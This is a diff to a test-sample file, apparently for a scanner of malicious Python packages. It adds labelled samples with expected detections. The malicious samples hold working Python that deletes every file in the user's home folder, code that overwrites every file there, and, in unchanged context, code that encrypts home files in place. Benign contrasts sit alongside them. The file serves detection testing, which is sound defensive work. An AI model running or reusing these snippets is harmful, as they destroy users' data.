@@ -4,6 +4,20 @@ import { at, HOOK_LINE, hide, hooked, imported, installed, quiet, wheel } from '
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: all files of the home folder, one by one',
+      files: wheel(
+        'import os\nfrom pathlib import Path\ndef clean():\n    for at, _, names in os.walk(Path.home()):\n        for name in names:\n            os.remove(os.path.join(at, name))\n',
+      ),
+      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 6, severity: 'high' }],
+    },
+    {
+      name: 'Python: a function that writes over what is in the home folder',
+      files: wheel(
+        "from pathlib import Path\ndef heal():\n    for path in Path.home().rglob('*'):\n        path.write_text('x')\n",
+      ),
+      expected: [{ rule: 'overwrite', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
       name: 'Python: files that are encrypted where they lie',
       files: wheel(
         "import os\nfrom cryptography.fernet import Fernet\nkey = Fernet(Fernet.generate_key())\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        path = os.path.join(at, name)\n        text = open(path, 'rb').read()\n        open(path, 'wb').write(key.encrypt(text))\n",
@@ -53,6 +67,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: old files of its own cache, one by one',
+      wheel(
+        "import os\nfrom pathlib import Path\ndef clean():\n    for at, _, names in os.walk(Path.home() / '.cache' / 'own'):\n        for name in names:\n            os.remove(os.path.join(at, name))\n",
+      ),
+    ),
+    quiet(
+      'Python: a search through the home folder',
+      wheel(
+        'from pathlib import Path\ndef find(name):\n    return [path for path in Path.home().rglob(name) if path.is_file()]\n',
+      ),
+    ),
     quiet(
       'Python: a list of files that a function writes',
       wheel(
